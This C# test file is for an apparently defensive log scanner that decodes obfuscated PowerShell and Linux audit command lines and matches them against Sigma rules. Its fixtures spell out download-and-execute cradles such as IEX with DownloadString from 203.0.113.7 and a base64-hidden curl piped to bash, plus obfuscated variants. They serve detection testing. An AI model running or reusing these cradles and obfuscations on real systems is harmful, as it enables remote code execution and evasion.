using System.Text;
using System.Text.Json;
using Stemma.Detection;
using Stemma.Logs;
using Stemma.Sigma;
using Stemma.Tests.Shared;
using Stemma.Tests.Support;

namespace Stemma.Tests.Detection;

/// <summary>What a scan finds in what command lines and script blocks hide.</summary>
public class LayerTests
{
    private const string Script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')";
    private static readonly SigmaRule
        Download = Scans.Rule("sel:\n  CommandLine|contains: DownloadString\ncondition: sel", title: "download in a command line"),
        ScriptDownload = Scans.Rule("sel:\n  ScriptBlockText|contains: DownloadString\ncondition: sel", "{product: windows, category: ps_script}", "download in a script");

    [Fact]
    public void An_encoded_command_fires_the_rule_that_was_written_for_the_plain_one()
    {
        JsonElement detection = Assert.Single(Scan([Start(Encoded(Script))], Download));
        Assert.Equal(1, detection.GetProperty("layer").GetInt32());
        Assert.Equal("-EncodedCommand", detection.GetProperty("layer_step").GetString());
        Assert.Equal(Script, Matched(detection, "CommandLine"));
        Assert.Equal(Encoded(Script), detection.GetProperty("fields").GetProperty("CommandLine").GetString());
    }

    [Fact]
    public void A_plain_command_fires_on_layer_0_and_only_there()
    {
        JsonElement detection = Assert.Single(Scan([Start($"powershell -c \"{Script}; 'a'+'b' | iex\"")], Download));
        Assert.Equal(0, detection.GetProperty("layer").GetInt32());
        Assert.False(detection.TryGetProperty("layer_step", out _));
    }

    [Fact]
    public void A_script_in_a_command_line_is_a_script_block_to_the_rules_about_those()
    {
        JsonElement detection = Assert.Single(Scan([Start(Encoded(Script))], ScriptDownload));
        Assert.Equal(1, detection.GetProperty("layer").GetInt32());
        Assert.Equal(Script, Matched(detection, "ScriptBlockText"));
    }

    [Theory]
    [InlineData("Security", 4688, "CommandLine", "NewProcessName")]
    [InlineData("Microsoft-Windows-Sysmon/Operational", 1, "CommandLine", "Image")]
    public void Every_log_of_process_starts_is_decoded(string channel, int id, string commandLine, string image)
    {
        string e = Event(channel, id, (image, @"C:\Windows\System32\cmd.exe"), (commandLine, "cmd /c p^ower^shell -c Down^load^String"));
        Assert.True(Assert.Single(Scan([e], Download)).GetProperty("layer").GetInt32() > 0);
    }

    [Fact]
    public void Tables_that_name_the_command_line_otherwise_are_decoded()
    {
        string e = JsonSerializer.Serialize(new { Timestamp = "2026-03-02T10:00:00Z", DeviceName = "h", ActionType = "ProcessCreated", FolderPath = @"C:\w\powershell.exe", ProcessCommandLine = Encoded(Script) });
        Assert.Equal(Script, Matched(Assert.Single(Scan([e], Download)), "CommandLine"));
    }

    [Fact]
    public void A_shell_line_of_a_Linux_audit_log_is_decoded()
    {
        string hidden = Convert.ToBase64String("curl http://203.0.113.7/x -o /tmp/x"u8);
        string[] words = ["bash", "-c", $"echo {hidden} | base64 -d | bash"];
        string arguments = string.Join(' ', words.Select((word, i) => $"a{i}={Convert.ToHexString(Encoding.UTF8.GetBytes(word))}"));
        string log = $"node=l type=SYSCALL msg=audit(1772445600.100:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=0 uid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=(null)\nnode=l type=EXECVE msg=audit(1772445600.100:7): argc=3 {arguments}\nnode=l type=EOE msg=audit(1772445600.100:7): \n";
        SigmaRule rule = Scans.Rule("sel:\n  CommandLine|contains: /tmp/x\ncondition: sel", "{product: linux, category: process_creation}");
        JsonElement detection = Assert.Single(Lines(Scans.RunText(log, [rule], "audit.log").Output));
        Assert.True(detection.GetProperty("layer").GetInt32() > 0);
    }

    [Fact]
    public void A_script_block_fires_on_what_it_evaluates_to()
    {
        string block = Event("Microsoft-Windows-PowerShell/Operational", 4104, ("ScriptBlockText", "&('I'+'EX') (\"{1}{0}\" -f 'Object','New-') | % ('Down'+'loadString')"));
        JsonElement detection = Assert.Single(Scan([block], ScriptDownload));
        Assert.True(detection.GetProperty("layer").GetInt32() > 0);
        Assert.Equal(4104, detection.GetProperty("event").GetProperty("event_id").GetInt32());
    }

    [Fact]
    public void What_a_rule_asks_of_the_log_and_of_the_layer_may_hold_together()
    {
        SigmaRule rule = Scans.Rule("sel:\n  CommandLine|contains|all: [' -nop', DownloadString]\ncondition: sel");
        Assert.Single(Scan([Start($"powershell -nop {Encoded(Script)["powershell ".Length..]}")], rule));
    }

    [Fact]
    public void A_script_that_another_program_hands_to_PowerShell_is_PowerShells_too()
    {
        SigmaRule rule = Scans.Rule("sel:\n  Image|endswith: \\powershell.exe\n  CommandLine|contains: DownloadString\ncondition: sel"),
            excluded = Scans.Rule("sel:\n  Image|endswith: \\powershell.exe\n  CommandLine|contains: DownloadString\nfilter:\n  Image|endswith: \\cmd.exe\ncondition: sel and not filter");
        string e = Event("Security", 4688, ("NewProcessName", @"C:\Windows\System32\cmd.exe"), ("CommandLine", "cmd /c " + Encoded(Script)));
        JsonElement detection = Assert.Single(Scan([e], rule, excluded));
        Assert.Equal(@"\powershell.exe", Matched(detection, "Image"));
        Assert.Equal(@"C:\Windows\System32\cmd.exe", detection.GetProperty("fields").GetProperty("Image").GetString());
    }

    [Fact]
    public void What_a_rule_excludes_by_another_field_stays_excluded()
    {
        SigmaRule rule = Scans.Rule("sel:\n  CommandLine|contains: DownloadString\nfilter:\n  ParentImage|endswith: \\agent.exe\ncondition: sel and not filter");
        Assert.Empty(Scan([Start(Encoded(Script), @"C:\Program Files\Agent\agent.exe")], rule));
        Assert.Single(Scan([Start(Encoded(Script))], rule));
    }

    [Fact]
    public void What_a_rule_excludes_by_the_logged_text_stays_excluded()
    {
        SigmaRule rule = Scans.Rule("sel:\n  CommandLine|contains: DownloadString\nfilter:\n  CommandLine|contains: ' -NonInteractive -Deploy'\ncondition: sel and not filter");
        Assert.Empty(Scan([Start($"powershell -NonInteractive -Deploy {Encoded(Script)["powershell ".Length..]}")], rule));
    }

    [Fact]
    public void What_a_rule_excludes_by_the_hidden_text_is_excluded_there()
    {
        SigmaRule rule = Scans.Rule("sel:\n  CommandLine|contains: DownloadString\nfilter:\n  CommandLine|contains: '203.0.113.7'\ncondition: sel and not filter");
        Assert.Empty(Scan([Start(Encoded(Script))], rule));
    }

    [Fact]
    public void A_rule_that_only_excludes_fires_once_an_event_however_many_layers_it_has()
    {
        SigmaRule rule = Scans.Rule("sel:\n  Image|endswith: .exe\nfilter:\n  CommandLine|contains: harmless\ncondition: sel and not filter");
        Assert.Equal(0, Assert.Single(Scan([Start(Encoded(Script))], rule)).GetProperty("layer").GetInt32());
    }

    [Fact]
    public void Nothing_is_decoded_where_that_was_not_wanted()
    {
        using LogFinder found = Write([Start(Encoded(Script))], out string folder);
        using Scanner scanner = new(new ScanSettings { Logs = found.Logs, Rules = [Download, ScriptDownload], LogSources = Scans.LogSources, Decode = false });
        ScanResult result = scanner.Run(TestContext.Current.CancellationToken);
        Assert.Equal((0, 0), (result.Detections, result.Decoded));
        Directory.Delete(folder, recursive: true);
    }

    [Fact]
    public void A_text_beyond_a_limit_is_counted_and_located_and_the_rest_goes_on()
    {
        string endless = Event("Microsoft-Windows-PowerShell/Operational", 4104, ("ScriptBlockText", "$a='x'; while($true){ $a = -join ([char[]]$a + 'b') }; iex $a"));
        (ScanResult result, string output) = Scans.RunText($"{endless}\n{Start(Encoded(Script))}\n", [Download, ScriptDownload]);
        Assert.Equal(1, result.DecodedInPart);
        Assert.Contains(result.Problems, problem => problem.Message.StartsWith("decoded in part", StringComparison.Ordinal) && !problem.IsDamage && problem.Position == 0);
        Assert.Equal(2, Lines(output).Count());
    }

    [Fact]
    public void The_same_bytes_come_out_whatever_the_threads()
    {
        string[] events = [.. Enumerable.Range(0, 400).Select(i => Start(Encoded($"{Script} # {i % 7}")))];
        string folder = TestData.TemporaryFolder();
        for (int file = 0; file < 8; file++) File.WriteAllLines(Path.Combine(folder, $"{file}.json"), events);
        string one = Scans.Run([folder], [Download, ScriptDownload], threads: 1).Output;
        Assert.NotEmpty(one);
        Assert.Equal(one, Scans.Run([folder], [Download, ScriptDownload], threads: 8).Output);
        Directory.Delete(folder, recursive: true);
    }

    [Fact]
    public void A_rule_may_ask_for_the_decoded_text_and_the_score()
    {
        SigmaRule decoded = Scans.Rule("sel:\n  DecodedCommandLine|contains: DownloadString\ncondition: sel", title: "decoded"),
            score = Scans.Rule("sel:\n  ObfuscationScore|gte: 50\ncondition: sel", title: "score"),
            block = Scans.Rule("sel:\n  DecodedScriptBlockText|contains: DownloadString\n  ObfuscationScore|lt: 50\ncondition: sel", "{product: windows, category: ps_script}", "block");
        JsonElement[] found = [.. Scan([Start(Encoded(Script)), Start("powershell -c (New-Object Net.WebClient).DownloadString($address)")], decoded, score, block)];
        Assert.Equal([("block", 1), ("decoded", 1), ("score", 0)], found.Select(one => (one.GetProperty("rule").GetProperty("title").GetString()!, one.GetProperty("layer").GetInt32())).Order());
        Assert.All(found, one => Assert.Equal(Encoded(Script), one.GetProperty("fields").GetProperty("CommandLine").GetString()));
    }

    [Fact]
    public void A_field_that_decoding_makes_is_no_blind_spot_where_the_log_has_what_it_is_made_of()
    {
        SigmaRule decoded = Scans.Rule("sel:\n  DecodedCommandLine|contains: DownloadString\ncondition: sel"), plain = Scans.Rule("sel:\n  CommandLine|contains: x\ncondition: sel", title: "plain");
        Assert.Empty(Scans.RunText(Start("whoami") + "\n", [decoded, plain]).Result.Gaps);
        string without = Event("Microsoft-Windows-Sysmon/Operational", 1, ("Image", "x.exe"), ("CommandLine", ""));
        Assert.Equal(2, Scans.RunText(without + "\n", [decoded, plain]).Result.Gaps.Count);
    }

    [Fact]
    public void Every_machine_format_says_which_layer_fired()
    {
        string events = Start(Encoded(Script)) + "\n", folder = TestData.TemporaryFolder();
        File.WriteAllText(Path.Combine(folder, "log.json"), events);
        string With(Func<DetectionWriter> writer) => Scans.Run([folder], [Download], writer: writer).Output;
        JsonElement Json(DetectionWriter writer) => JsonDocument.Parse(With(() => writer)).RootElement;
        Assert.Equal((1, "-EncodedCommand"), Told(Json(new TimesketchDetectionWriter())));
        Assert.Equal((1, "-EncodedCommand"), Told(Json(new SplunkDetectionWriter()).GetProperty("event")));
        Assert.Equal((1, "-EncodedCommand"), Told(Json(new EcsDetectionWriter()).GetProperty("stemma")));
        Assert.Equal((1, "-EncodedCommand"), Told(Json(new SarifDetectionWriter([Download])).GetProperty("runs")[0].GetProperty("results")[0].GetProperty("properties")));
        string[] csv = With(() => new CsvDetectionWriter()).Split("\r\n");
        Assert.EndsWith(",layer", csv[0], StringComparison.Ordinal);
        Assert.EndsWith(",1", csv[1], StringComparison.Ordinal);
        Directory.Delete(folder, recursive: true);

        static (int, string?) Told(JsonElement e) => (e.GetProperty("layer").GetInt32(), e.GetProperty("layer_step").GetString());
    }

    private static IEnumerable<JsonElement> Scan(string[] events, params SigmaRule[] rules) => Lines(Scans.RunText(string.Join('\n', events) + "\n", rules).Output);

    private static IEnumerable<JsonElement> Lines(string output) => output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => JsonDocument.Parse(line).RootElement);

    private static string Start(string commandLine, string parent = @"C:\Windows\explorer.exe") => Event("Microsoft-Windows-Sysmon/Operational", 1,
        ("Image", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"), ("CommandLine", commandLine), ("ParentImage", parent));

    private static string Event(string channel, int id, params (string Name, string Value)[] fields)
    {
        Dictionary<string, object> e = new() { ["Channel"] = channel, ["EventID"] = id, ["Computer"] = "h", ["TimeCreated"] = "2026-03-02T10:00:00Z" };
        foreach ((string name, string value) in fields) e[name] = value;
        return JsonSerializer.Serialize(e);
    }

    private static string Encoded(string script) => $"powershell -enc {Convert.ToBase64String(Encoding.Unicode.GetBytes(script))}";

    private static string? Matched(JsonElement detection, string field) =>
        detection.GetProperty("matched").EnumerateArray().First(item => item.GetProperty("field").GetString() == field).GetProperty("value").GetString();

    private static LogFinder Write(string[] events, out string folder)
    {
        folder = TestData.TemporaryFolder();
        File.WriteAllLines(Path.Combine(folder, "log.json"), events);
        return LogFinder.Find([folder]);
    }
}
